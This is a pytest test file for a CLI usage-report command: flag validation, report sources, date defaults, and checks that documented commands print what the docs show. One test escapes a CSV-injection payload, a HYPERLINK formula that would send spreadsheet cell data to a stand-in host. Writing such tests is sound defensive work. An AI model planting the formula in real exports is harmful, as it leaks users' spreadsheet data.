"""`serving usage report` through `serving.cli.main`: bad input is one line naming the flag
(exit 2), and docs/usage-reports.md's commands print what the page shows, from keys.db and
from Redis."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shlex
import subprocess
import sys
from datetime import date
from pathlib import Path

import pytest

from serving import cli
from serving.gateway.keys import SqliteKeyStore
from serving.gateway.keys.record import KeySpec
from serving.gateway.usage_ledger import report
from serving.gateway.usage_ledger.redis_store import RedisUsageStore
from serving.gateway.usage_ledger.sqlite_store import SqliteUsageStore
from serving.gateway.usage_ledger.tally import Batch
from tests.gateway.quota.redis_server import RedisServer, free_port
from tests.gateway.quota.running import run_async

PAGE = Path(__file__).resolve().parents[2] / "docs" / "usage-reports.md"
SECRET = "sk-5e01c9a7-" + "Q" * 40
DAYS = ["--from", "2026-03-01", "--to", "2026-03-31"]


def serving(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = cli.main(list(argv))
    captured = capsys.readouterr()
    return code, captured.out, captured.err


@pytest.mark.parametrize(
    ("flags", "message"),
    [
        (["--from", ""], "--from: '' is not a day (YYYY-MM-DD)"),
        (["--from", "2999-01-01"], "--from: 2999-01-01 is after today ("),
        (["--from", "2026-02-30", "--to", "2026-03-01"], "--from: '2026-02-30' is not a day"),
        (["--from", "2026-03-02", "--to", "2026-03-01"], "--to: 2026-03-01 is before the first"),
        ([*DAYS, "--key", SECRET], "--key: is not a key id (e.g. key_5e01c9a7, or dev)"),
        ([*DAYS, "--format", "xml"], "--format: 'xml' is not one of table, csv, json"),
        ([*DAYS, "--keys-db", "/nonexistent/keys.db"], "--keys-db: /nonexistent/keys.db does not"),
        ([*DAYS, "--redis-url", "http://:hunter2@r:6379"], "--redis-url: must be a redis://"),
        (
            [*DAYS, "--redis-url", f"redis://:hunter2@127.0.0.1:{free_port()}/0"],
            "--redis-url: cannot connect to Redis (ConnectionRefusedError)",
        ),
    ],
)
def test_bad_input_is_one_line_naming_the_flag(
    flags: list[str], message: str, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = serving(capsys, "usage", "report", *flags)
    assert (code, out) == (2, "")
    assert err.startswith(f"serving usage: error: {message}"), err
    assert err.count("\n") == 1
    assert "hunter2" not in err and "QQQQ" not in err


def test_keys_db_and_redis_url_are_one_or_the_other(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as exited:
        cli.main(["usage", "report", *DAYS, "--keys-db", "k.db", "--redis-url", "redis://x"])
    assert exited.value.code == 2
    assert "not allowed with argument" in capsys.readouterr().err


def test_a_keys_db_without_usage_reports_none(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    SqliteKeyStore(tmp_path / "keys.db").close()  # keys, and no gateway has recorded yet
    code, out, _ = serving(capsys, "usage", "report", *DAYS, "--keys-db", str(tmp_path / "keys.db"))
    assert (code, out) == (0, "usage from 2026-03-01 to 2026-03-31 (UTC), all keys: none\n")


def test_the_sqlite_path_does_not_import_redis(tmp_path: Path) -> None:
    SqliteKeyStore(tmp_path / "keys.db").close()
    probe = (
        "import sys\nfrom serving import cli\n"
        f"cli.main(['usage', 'report', '--from', '2026-03-01', '--to', '2026-03-01', "
        f"'--keys-db', {str(tmp_path / 'keys.db')!r}])\n"
        "print('redis' in sys.modules)"
    )
    result = subprocess.run(
        [sys.executable, "-c", probe], capture_output=True, text=True, check=True
    )
    assert result.stdout.splitlines()[-1] == "False"  # redis-py takes 0.2 s to import


@run_async
async def record_file(path: Path, batch: Batch) -> None:
    store = SqliteUsageStore(path)
    await store.write("test", 1, batch)
    await store.close()


def test_a_key_named_as_a_formula_is_text_in_the_csv(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """CSV injection (OWASP): the name a tenant's key was given reaches a spreadsheet as text."""
    formula = '=HYPERLINK("http://x/?"&A1,"t")'
    keys = SqliteKeyStore(tmp_path / "keys.db")
    key_id = keys.create(KeySpec(formula))[0].key_id
    keys.close()
    record_file(tmp_path / "keys.db", {("2026-03-01", key_id, "qwen3-tiny"): [12, 30, 0, 0]})
    code, out, _ = serving(
        capsys, "usage", "report", *DAYS, "--format", "csv", "--keys-db", str(tmp_path / "keys.db")
    )
    rows = list(csv.DictReader(io.StringIO(out)))
    assert code == 0 and len(rows) == 1
    assert rows[0]["key_name"] == f"'{formula}"
    assert [rows[0][n] for n in ("prompt_tokens", "completion_tokens", "total_tokens")] == [
        "12", "30", "42",
    ]  # fmt: skip


def test_without_from_and_to_the_report_is_the_current_utc_month_so_far(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(report, "utc_today", lambda: date(2026, 3, 17))
    keys_db = str(tmp_path / "keys.db")
    SqliteKeyStore(tmp_path / "keys.db").close()
    days = ["2026-02-28", "2026-03-01", "2026-03-17", "2026-03-18"]
    record_file(tmp_path / "keys.db", {(day, "dev", "qwen3-tiny"): [1, 1, 0, 0] for day in days})

    def report_days(*flags: str) -> tuple[str, str, list[str]]:
        code, out, err = serving(capsys, "usage", "report", *flags, "--format", "json")
        assert code == 0, err
        document = json.loads(out)
        return document["from"], document["to"], [row["day"] for row in document["rows"]]

    assert report_days("--keys-db", keys_db) == ("2026-03-01", "2026-03-17", days[1:3])
    assert report_days("--keys-db", keys_db, "--from", "2026-02-28") == (
        "2026-02-28", "2026-03-17", days[:3],
    )  # fmt: skip
    assert report_days("--keys-db", keys_db, "--to", "2026-02-28") == (
        "2026-02-01", "2026-02-28", days[:1],
    )  # fmt: skip
    code, out, _ = serving(capsys, "usage", "report", "--keys-db", keys_db)
    assert code == 0
    assert out.splitlines()[0] == "usage from 2026-03-01 to 2026-03-17 (UTC), all keys"


def page_commands() -> tuple[list[str], str, list[str]]:
    """The page's `serving usage report` commands (its bash block), and the command its text
    block quotes with its output."""
    text = PAGE.read_text(encoding="utf-8")
    section = text[text.index("## The report from the command line") :]
    bash = re.search(r"```bash\n(.*?)```", section, flags=re.S)
    quoted = re.search(r"```text\n\$ (.*?)\n(.*?)```", section, flags=re.S)
    assert bash is not None and quoted is not None
    return bash.group(1).splitlines(), quoted.group(1), quoted.group(2).splitlines()


def argv(command: str, ids: dict[str, str]) -> list[str]:
    """The arguments after `.venv/bin/serving`, with the page's key ids made the test's."""
    for shown, real in ids.items():
        command = command.replace(shown, real)
    words = shlex.split(os.path.expandvars(command))
    assert words[0] == ".venv/bin/serving", command
    return words[1:]


@run_async
async def record(path: Path, redis_url: str, batch: Batch) -> None:
    for store in (SqliteUsageStore(path), RedisUsageStore.from_url(redis_url)):
        await store.write("docs", 1, batch)
        await store.close()


def test_the_page_commands_print_what_it_shows(
    tmp_path: Path,
    redis_server: RedisServer,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """docs/usage-reports.md, "The report from the command line", run as printed: its usage
    rows written to keys.db in the serving home and to Redis, its keys created with the names
    it shows (the ids they get stand in for the page's)."""
    redis_server.flush()
    monkeypatch.setenv("SERVING_HOME", str(tmp_path))
    monkeypatch.setenv("REDIS_URL", redis_server.url)
    commands, quoted, output = page_commands()
    day_rows = [line.split() for line in output[3 : output.index("", 3)]]
    names = {row[1]: row[2] for row in day_rows}
    keys = SqliteKeyStore(tmp_path / "keys.db")
    ids: dict[str, str] = {}
    # The report sorts by key id: the stand-ins must sort as the page's ids do.
    while sorted(ids) != sorted(ids, key=ids.__getitem__) or len(ids) < len(names):
        ids = {shown: keys.create(KeySpec(names[shown]))[0].key_id for shown in sorted(names)}
    keys.close()
    batch: Batch = {}
    for day, key, _, model, prompt, completion, _, in_batch in day_rows:
        # The table shows the batch part's total: here it is prompt tokens first.
        batch_prompt = min(int(in_batch), int(prompt))
        counts = [int(prompt), int(completion), batch_prompt, int(in_batch) - batch_prompt]
        batch[(day, ids[key], model)] = counts
    record(tmp_path / "keys.db", redis_server.url, batch)

    code, out, _ = serving(capsys, *argv(quoted, ids))
    for shown, real in ids.items():
        out = out.replace(real, shown)
    assert (code, out.splitlines()) == (0, output)

    assert len(commands) == 3 and quoted == commands[0]
    code, out, _ = serving(capsys, *argv(commands[1], ids))
    team_a = [line for line in output if line.startswith("2026-") and "key_5e01c9a7" in line]
    assert code == 0 and len(out.splitlines()) == 1 + len(team_a)
    code, out, _ = serving(capsys, *argv(commands[2], ids))
    document = json.loads(out)
    assert code == 0 and document["object"] == "usage_report"
    all_line = output[-1].split()
    assert document["total"]["total_tokens"] == int(all_line[-2])
    assert document["total"]["batch"]["total_tokens"] == int(all_line[-1])
